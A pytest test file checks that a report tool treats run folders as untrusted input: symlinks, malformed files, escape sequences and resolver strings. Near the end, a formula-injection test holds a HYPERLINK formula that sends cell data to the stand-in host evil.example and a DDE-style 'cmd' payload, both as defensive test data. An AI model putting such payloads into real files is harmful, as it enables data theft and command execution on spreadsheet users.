"""`gradexp report` on crafted folders: a run folder read back is untrusted input (design.md, Behaviour at the edges).
Bad input is one line and exit 2, never a traceback; one bad run does not stop the report of the others; nothing
is written through a symlink or over a file gradexp report did not write; nothing from a folder reaches the terminal
raw."""
from __future__ import annotations

import csv
import errno
import json
import math
import os
import shutil
import signal

import pytest

from gradexp.report.output import SOFTWARE
from gradexp.report.runs import load_run, load_summary
from gradexp.report.table import main
from tests.test_report import geometric, write_run

GOOD = ["activation=relu"]


@pytest.fixture
def deadline():
    """A read that blocks (a FIFO opened without O_NONBLOCK) fails the test instead of hanging it."""
    def expire(*_):
        raise TimeoutError("gradexp report blocked")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.alarm(20)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, previous)


@pytest.fixture
def no_figure(monkeypatch):
    """For the many cases about reading runs: report.png left undrawn (~0.2 s of matplotlib each); the figure's own
    tests draw it."""
    monkeypatch.setattr("gradexp.report.table.draw", lambda *args, **kwargs: None)


def error_lines(capsys) -> list[str]:
    return capsys.readouterr().err.strip().splitlines()


# --- report.csv / report.png: only ever replace gradexp report's own regular files -----------------------------------

@pytest.fixture
def run_root(tmp_path):
    root = tmp_path / "sweep"
    write_run(root / "0", ["activation=tanh"], norms=geometric(0.5))
    write_run(root / "1", GOOD, norms=geometric(0.9))
    return root


def test_a_symlink_named_report_csv_is_refused_and_its_target_untouched(run_root, tmp_path, capsys):
    victim = tmp_path / "secret.txt"
    victim.write_text("mine\n")
    (run_root / "report.csv").symlink_to(victim)
    assert main([str(run_root), "--format", "csv"]) == 2
    err = error_lines(capsys)
    assert len(err) == 1 and "report.csv is a symbolic link" in err[0] and "--out" in err[0]
    assert victim.read_text() == "mine\n" and os.path.islink(run_root / "report.csv")
    assert not (run_root / "report.png").exists()  # refused before anything was written


@pytest.mark.parametrize("name, content", [("report.csv", b"my,own\n1,2\n"), ("report.png", b"\x89PNG\r\n\x1a\nmine")])
def test_a_users_own_report_file_is_refused_before_anything_is_written(run_root, capsys, name, content):
    (run_root / name).write_bytes(content)
    assert main([str(run_root)]) == 2
    err = error_lines(capsys)
    earlier = " (nor is one it wrote before it marked its PNGs, on 2026-11-30)" if name == "report.png" else ""
    assert err == [f"gradexp report: {run_root / name} exists and was not written by gradexp report{earlier} "
                   "(remove it, or write elsewhere with --out DIR)"]
    assert (run_root / name).read_bytes() == content
    assert sorted(p.name for p in run_root.iterdir()) == ["0", "1", name]  # no other report, no temporary file


def test_a_report_of_its_own_is_replaced_on_a_rerun(run_root, capsys):
    assert main([str(run_root), "--format", "csv"]) == 0
    assert SOFTWARE.encode() in (run_root / "report.png").read_bytes()[:200]  # the PNG's mark, in its first chunks
    write_run(run_root / "2", ["activation=sigmoid", "seed=3"], norms=geometric(0.3))  # a new column: a new header
    assert main([str(run_root), "--format", "csv"]) == 0
    with open(run_root / "report.csv") as f:
        assert [r["activation"] for r in csv.DictReader(f)] == ["tanh", "relu", "sigmoid"]
    assert main([str(run_root), "--format", "csv"]) == 0  # and again, over the new header
    assert sorted(p.name for p in run_root.iterdir()) == ["0", "1", "2", "report.csv", "report.png"]


def test_a_failed_write_leaves_no_half_file(run_root, capsys, monkeypatch):
    import matplotlib.figure

    def full_disk(self, f, **kwargs):
        f.write(b"\x89PNG half")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(matplotlib.figure.Figure, "savefig", full_disk)
    assert main([str(run_root), "--format", "csv"]) == 2
    err = error_lines(capsys)
    assert len(err) == 1 and "report.png" in err[0] and "No space left on device" in err[0]
    assert sorted(p.name for p in run_root.iterdir()) == ["0", "1"]  # both whole, or neither there at all


@pytest.mark.parametrize("out", ["file", "/proc/gradexp-report-x"])
def test_an_out_that_is_a_file_or_cannot_be_made_is_one_line(run_root, tmp_path, capsys, out):
    if out == "file":
        out = str(tmp_path / "a-file")
        open(out, "w").write("keep\n")
    assert main([str(run_root), "--out", out]) == 2
    err = error_lines(capsys)
    assert len(err) == 1 and out in err[0]
    assert out == "/proc/gradexp-report-x" or open(out).read() == "keep\n"


# --- summary.json / overrides.yaml: malformed files make their run unreadable, the others are reported --------------

BAD_SUMMARIES = {
    "a list": "[1, 2]",
    "a string": '"completed"',
    "final is a list": {"final": [0.5]},
    "verdict is a string": {"verdict": "healthy"},
    "theory is a list": {"theory": [1]},
    "perf is a string": {"perf": "fast"},
    "bptt is a string": {"bptt": "x"},
    "a bptt profile of strings": {"bptt": {"layers.0": {"first": ["a"], "first_step": 0}}},
    "a layer that is a number": {"layers": [1, 2]},
    "a layer norm without last": {"layers": [{"act_grad_norm": {"first": 1.0}}, {"act_grad_norm": {"first": 1.0}}]},
    "an override that is a number": {"overrides": [1]},
    "verdict.label is an object": {"verdict": {"label": {"x": 1}}},
    "status is a number": {"status": 3},
    "a number past a float": '{"final": {"loss/train": 1' + "0" * 400 + "}}",
    "a gain past a float": {"layers": [{"act_grad_norm": {"first": 1e300, "last": 1.0}},
                                       {"act_grad_norm": {"first": 1e-300, "last": 1.0}}]},
    "nested too deeply": "[" * 100_000,
    "cut short": '{"status": "comp',
    "not UTF-8": b'{"status": "\xff"}',
    "too large": '{"status": "completed"}' + " " * (9 << 20),
    "a newer schema": {"schema_version": 99},
}


def write_bad_summary(folder, content) -> None:
    os.makedirs(folder)
    if isinstance(content, dict):
        good = json.loads(json.dumps({"status": "completed", "overrides": ["activation=tanh"], "layers": []}))
        content = json.dumps({**good, **content})
    (folder / "summary.json").write_bytes(content if isinstance(content, bytes) else content.encode())


@pytest.mark.parametrize("case", list(BAD_SUMMARIES))
def test_a_malformed_summary_makes_its_run_unreadable_and_the_others_are_reported(tmp_path, capsys, case, no_figure):
    write_run(tmp_path / "0_good", GOOD, norms=geometric(0.5))
    write_bad_summary(tmp_path / "1_bad", BAD_SUMMARIES[case])
    assert main([str(tmp_path), "--format", "json"]) == 0
    captured = capsys.readouterr()
    rows = json.loads(captured.out)
    assert rows[0]["status"] == "completed" and rows[0]["gain"] == pytest.approx(0.5)
    assert rows[1]["status"] == "unreadable" and "1_bad" in rows[1]["evidence"]
    err = captured.err.strip().splitlines()
    assert len(err) == 1 and str(tmp_path / "1_bad" / "summary.json") in err[0]
    assert (tmp_path / "report.csv").exists()


def test_the_error_names_the_field_that_is_wrong(tmp_path):
    write_bad_summary(tmp_path / "a", {"verdict": {"label": {"x": 1}}})
    with pytest.raises(ValueError, match=r"`verdict.label` is an object \(allowed: a string\)"):
        load_summary(str(tmp_path / "a"))
    assert load_summary(str(tmp_path / "absent")) is None  # no summary (yet): still None, not an error


@pytest.mark.parametrize("kind", ["fifo", "symlink", "folder"])
def test_a_summary_that_is_no_regular_file_is_not_read(tmp_path, capsys, deadline, kind, no_figure):
    write_run(tmp_path / "0_good", GOOD, norms=geometric(0.5))
    bad = tmp_path / "1_bad"
    bad.mkdir()
    {"fifo": lambda p: os.mkfifo(p), "symlink": lambda p: p.symlink_to("/dev/null"),
     "folder": lambda p: (p / "summary.json").mkdir(parents=True)}[kind](bad / "summary.json")
    if kind == "folder":  # os.walk lists a folder named summary.json as a folder: .hydra/ makes 1_bad a run
        (bad / ".hydra").mkdir()
        (bad / ".hydra" / "overrides.yaml").write_text("- activation=tanh\n")
    assert main([str(tmp_path), "--format", "json"]) == 0
    rows = {r["run"]: r for r in json.loads(capsys.readouterr().out)}
    assert rows["0_good"]["status"] == "completed"
    assert rows["1_bad"]["status"] == "unreadable"


@pytest.mark.parametrize("text, problem", [("- a=1\n: [\n", "not valid YAML"), ("just a scalar\n", "list of strings"),
                                           ("- [nested]\n", "list of strings"), ("[" * 100_000, "")])
def test_a_malformed_hydra_overrides_file_makes_its_run_unreadable(tmp_path, capsys, text, problem, no_figure):
    write_run(tmp_path / "0_good", GOOD, norms=geometric(0.5))
    write_run(tmp_path / "1_bad", [], summary=False)
    (tmp_path / "1_bad" / ".hydra" / "overrides.yaml").write_text(text)
    assert main([str(tmp_path), "--format", "csv"]) == 0
    captured = capsys.readouterr()
    assert [r["status"] for r in csv.DictReader(captured.out.splitlines())] == ["completed", "unreadable"]
    err = captured.err.strip().splitlines()
    assert len(err) == 1 and "overrides.yaml" in err[0] and problem in err[0]


def test_when_no_run_can_be_read_each_says_why_and_the_exit_is_2(tmp_path, capsys):
    write_bad_summary(tmp_path / "a", "[1]")
    write_bad_summary(tmp_path / "b", {"final": "x"})
    assert main([str(tmp_path)]) == 2
    err = error_lines(capsys)
    assert len(err) == 2 and "a/summary.json: the top level is a list" in err[0] and "`final` is a string" in err[1]
    assert not (tmp_path / "report.csv").exists()


# --- overrides are text: no interpolation or resolver of a crafted overrides.yaml runs -------------------------------

def test_overrides_are_shown_as_written_never_resolved(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("GRADEXP_REPORT_SECRET", "s3cret")
    write_run(tmp_path / "0", ["x=${oc.env:GRADEXP_REPORT_SECRET}", "y=${oc.decode:'[1]'}"], summary=False)
    write_run(tmp_path / "1", ["x=plain", "y=plain"], summary=False)
    assert main([str(tmp_path), "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert rows[0]["x"] == "${oc.env:GRADEXP_REPORT_SECRET}" and rows[0]["y"] == "${oc.decode:'[1]'}"
    assert "s3cret" not in (tmp_path / "report.csv").read_text()


# --- nothing from a run folder reaches the terminal raw ------------------------------------------------------------

def test_control_characters_and_markup_from_a_run_folder_are_printed_as_text(tmp_path, capsys):
    write_run(tmp_path / "0", ["activation=[bold red]x[/]", "init=a\x1b]0;title\x07"], status="\x1b[2J\x1b[31mdone\nok",
              norms=geometric(0.5), hydra=False)
    write_run(tmp_path / "1\x1b[5m", ["activation=relu", "init=b"], norms=geometric(0.9), hydra=False,
              verdict={"label": "\x1b[31mhealthy", "evidence": "\u202eevil"})
    for fmt in ("table", "csv", "json"):
        assert main([str(tmp_path), "--format", fmt]) == 0
        out = capsys.readouterr().out
        assert not {"\x1b", "\x07", "\u202e"} & set(out), fmt
        assert "\\x1b[2J" in out and "\\x1b[5m" in out, fmt
    assert main([str(tmp_path)]) == 0
    table = capsys.readouterr().out
    assert "[bold red]x[/]" in table  # shown, not read as rich markup


def test_a_folder_name_that_is_not_utf_8_and_a_lone_surrogate_are_escaped(tmp_path, capsys):
    """Found by an adversarial test: a run folder named in Latin-1 bytes (Python's surrogateescape gives it lone
    surrogates) or a status holding one crashed the CSV write; each is a row, escaped, in every format."""
    write_run(tmp_path / "r\udce9sum\udce9", ["activation=relu"], norms=geometric(0.5), hydra=False)
    write_run(tmp_path / "plain", ["activation=tanh"], norms=geometric(0.9), hydra=False)
    summary = tmp_path / "plain" / "summary.json"
    summary.write_text(summary.read_text().replace('"completed"', '"done\\ud800"'))  # JSON's escape of one
    for fmt in ("table", "csv"):
        assert main([str(tmp_path), "--format", fmt]) == 0, fmt
        out = capsys.readouterr().out
        assert "r\\udce9sum\\udce9" in out and "done\\ud800" in out, fmt
    assert main([str(tmp_path), "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert {row["run"] for row in rows} == {"r\\udce9sum\\udce9", "plain"} and "done\\ud800" in {r["status"] for r in rows}
    assert main([str(tmp_path), "--out", str(tmp_path / "out")]) == 0
    assert "r\\udce9sum\\udce9" in (tmp_path / "out" / "report.csv").read_text(encoding="utf-8")


def test_a_dollar_in_a_value_is_drawn_as_text_not_math(tmp_path, capsys):
    """matplotlib reads $…$ as math: an override value that is no valid math would make savefig raise."""
    write_run(tmp_path / "0", ["lr=$\\frac{$"], norms=geometric(0.5))
    write_run(tmp_path / "1", ["lr=$x^$"], norms=geometric(0.9))
    assert main([str(tmp_path), "--format", "csv"]) == 0
    assert (tmp_path / "report.png").read_bytes()[:4] == b"\x89PNG"


def test_an_unreadable_run_varies_no_factor(tmp_path):
    """Its overrides are unknown: the other runs' common setting stays out of the varying columns."""
    from gradexp.report.runs import varying_keys

    write_run(tmp_path / "0", ["activation=relu", "seed=0"], norms=geometric(0.5))
    write_run(tmp_path / "1", ["activation=relu", "seed=1"], norms=geometric(0.6))
    write_bad_summary(tmp_path / "2", "[]")
    records = [load_run(str(tmp_path / d), str(tmp_path)) for d in ("0", "1", "2")]
    assert varying_keys(records) == ["seed"]


# --- from a review of the above -----------------------------------------------------------------------------------

def test_a_null_verdict_label_in_a_two_factor_sweep_draws_the_status(tmp_path, capsys):
    root = tmp_path / "sweep"
    for i, (a, b) in enumerate([("relu", "0.1"), ("relu", "0.2"), ("tanh", "0.1"), ("tanh", "0.2")]):
        write_run(root / str(i), [f"activation={a}", f"optimizer.lr={b}"], norms=geometric(0.5))
    summary = json.loads((root / "0" / "summary.json").read_text())
    summary["verdict"]["label"] = None
    (root / "0" / "summary.json").write_text(json.dumps(summary))
    assert main([str(root)]) == 0 and (root / "report.png").is_file()


def test_a_large_report_csv_of_its_own_is_recognised_by_its_header_line(run_root, capsys):
    assert main([str(run_root)]) == 0
    csv_path = run_root / "report.csv"
    offset = csv_path.stat().st_size  # a big sweep's rows, its evidence full of ‖ (3 bytes): past 1 MiB, with the
    pad = "x" * (1 if ((1 << 20) - offset) % 3 == 0 else 0)  # 1 MiB mark inside a character
    with open(csv_path, "a", encoding="utf-8") as f:
        f.write(pad + "‖" * (1 << 19) + "\n")
    assert csv_path.stat().st_size > (1 << 20)
    assert main([str(run_root)]) == 0, error_lines(capsys)


def test_a_newer_summary_is_named_as_newer_before_its_fields_are_judged(tmp_path):
    write_run(tmp_path / "run", GOOD, norms=geometric(0.5), schema_version=99, theory=["a list now"])
    with pytest.raises(ValueError, match="schema_version 99"):
        load_summary(str(tmp_path / "run"))


def test_an_unreadable_run_keeps_its_overrides_and_is_not_folded_with_seeds(tmp_path, capsys):
    root = tmp_path / "sweep"
    for seed in range(3):
        write_run(root / str(seed), [f"seed={seed}"], norms=geometric(0.5))
    (root / "2" / "summary.json").write_text("[")
    record = load_run(str(root / "2"), str(root))
    assert record.status == "unreadable" and record.overrides == {"seed": "2"}
    assert main([str(root), "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert [r["status"] for r in rows].count("unreadable") == 1 and len(rows) == 3


def test_overrides_named_like_the_reports_columns_neither_hide_nor_replace_them(tmp_path, capsys):
    """Found by an adversarial test: an override `run=x` replaced the run's name and crashed the table after the files
    were written; `status=...` silently hid the run's status."""
    from gradexp.report.runs import REPORT_COLUMNS, RunRecord
    from gradexp.report.table import row

    write_run(tmp_path / "0", ["run=x", "status=fine", "activation=relu"], norms=geometric(0.5), status="diverged")
    write_run(tmp_path / "1", ["run=y", "status=fine", "activation=tanh"], norms=geometric(0.9))
    assert main([str(tmp_path), "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert [(r["run"], r["status"], r["run (override)"], r["status (override)"]) for r in rows] == [
        ("0", "diverged", "x", "fine"), ("1", "completed", "y", "fine")]
    assert main([str(tmp_path), "--out", str(tmp_path / "out")]) == 0
    produced = row(RunRecord(path="p", overrides={}, status="s"), [], theory=True, time=True)
    assert set(produced) <= REPORT_COLUMNS  # the list the renaming goes by is the report's own


def test_a_deep_tree_an_unlistable_folder_and_a_linked_hydra_folder(tmp_path, capsys, monkeypatch):
    """Found by an adversarial test: 1,000 nested folders raised RecursionError; a folder that could not be listed
    vanished from the report without a word; a .hydra/ that is a link to another folder was read through."""
    write_run(tmp_path / "ok", ["activation=relu"], norms=geometric(0.5))
    deep = tmp_path
    for _ in range(1200):  # one level at a time: os.makedirs recurses per missing parent
        deep = deep / "d"
        deep.mkdir()
    write_run(deep, ["activation=tanh"], norms=geometric(0.9))
    write_run(tmp_path / "locked", ["activation=gelu"], norms=geometric(0.7))
    write_run(tmp_path / "linked", [], hydra=False, summary=False)  # unfinished: its overrides come from .hydra/
    os.symlink(tmp_path / "ok" / ".hydra", tmp_path / "linked" / ".hydra")
    real_scandir = os.scandir

    def scandir(path):
        if str(path) == str(tmp_path / "locked"):
            raise PermissionError(13, "Permission denied")
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    assert main([str(tmp_path), "--format", "json"]) == 0
    captured = capsys.readouterr()
    rows = {r["run"]: r for r in json.loads(captured.out)}
    assert set(rows) == {"ok", "linked", os.path.join(*["d"] * 1200)}
    assert rows["linked"]["status"] == "unreadable" and "is a symbolic link" in rows["linked"]["evidence"]
    assert f"cannot look into {tmp_path / 'locked'} (Permission denied): any runs below it are left out" in captured.err
    while deep != tmp_path:  # bottom up: shutil.rmtree (pytest's clean-up) recurses per level and would fail here
        for entry in deep.iterdir():
            entry.unlink() if not entry.is_dir() or entry.is_symlink() else shutil.rmtree(entry)
        deep.rmdir()
        deep = deep.parent


# --- found by the eighth session's adversarial test ----------------------------------------------------------------

def test_spreadsheet_formulas_from_a_run_folder_reach_report_csv_as_text(tmp_path, capsys, no_figure):
    """=HYPERLINK(...) in an override and @SUM(...) in a status were written to report.csv as they were: a
    spreadsheet would run them. Each gets OWASP's leading quote; plain signed text ('-', '+model.x', -1e-3) stays."""
    root = tmp_path / "sweep"
    write_run(root / "0", ['activation==HYPERLINK("http://evil.example/?"&A1,"x")'], norms=geometric(0.5))
    write_run(root / "1", ["activation=-cmd|' /C calc'!A0"], status="@SUM(1+1)", norms=geometric(0.9))
    write_run(root / "2", ["activation=-"], norms=geometric(0.9))
    write_run(root / "3", ["activation=-1e-3"], norms=geometric(0.9))
    assert main([str(root), "--format", "csv"]) == 0
    cells = [cell for row in csv.reader((root / "report.csv").read_text().splitlines()) for cell in row]
    assert not any(cell[:1] in ("=", "@") or cell.startswith("-cmd") for cell in cells), cells
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in cells and "'-cmd|' /C calc'!A0" in cells
    assert "-" in cells and "-1e-3" in cells


def test_json_output_is_strict_json_and_huge_values_fold_without_overflow(tmp_path, capsys, no_figure):
    """Infinity from a summary was printed as the literal Infinity, which strict JSON parsers refuse; two seeds of
    losses near float's largest made the fold's fsum overflow (a traceback after report.csv was written)."""
    root = tmp_path / "sweep"
    write_run(root / "0", ["seed=0"], norms=geometric(0.5), final={"loss/train": 1e308, "loss/val": math.inf})
    write_run(root / "1", ["seed=1"], norms=geometric(0.5), final={"loss/train": 1.7e308, "loss/val": math.inf})
    assert main([str(root)]) == 0  # the table folds the seeds: mean 1.35e308
    assert "1.35e+308" in capsys.readouterr().out
    assert main([str(root), "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out, parse_constant=lambda name: pytest.fail(f"{name} in the JSON"))
    assert [r["loss/val"] for r in rows] == [None, None]


@pytest.mark.parametrize("option", ["--sort=--", "--dpi=--", "--out=--"])
def test_an_option_whose_value_is_a_double_dash_is_one_line(run_root, capsys, option):
    """argparse reads `--sort=--` as an empty list: a traceback (and --out=-- wrote to PATH)."""
    assert main([str(run_root), option]) == 2
    assert error_lines(capsys) == [f"gradexp report: invalid value for {option[:-3]}: '--' (allowed: a value; see "
                                   "gradexp report --help)"]
    assert not (run_root / "report.csv").exists()


def test_a_descending_sort_written_with_a_space_says_how_to_write_it(run_root, capsys):
    """Found by a new user: `--sort -gain` read 'expected one argument' and nothing more."""
    assert main([str(run_root), "--sort", "-gain"]) == 2
    assert "a descending sort is written --sort=-KEY" in error_lines(capsys)[0]

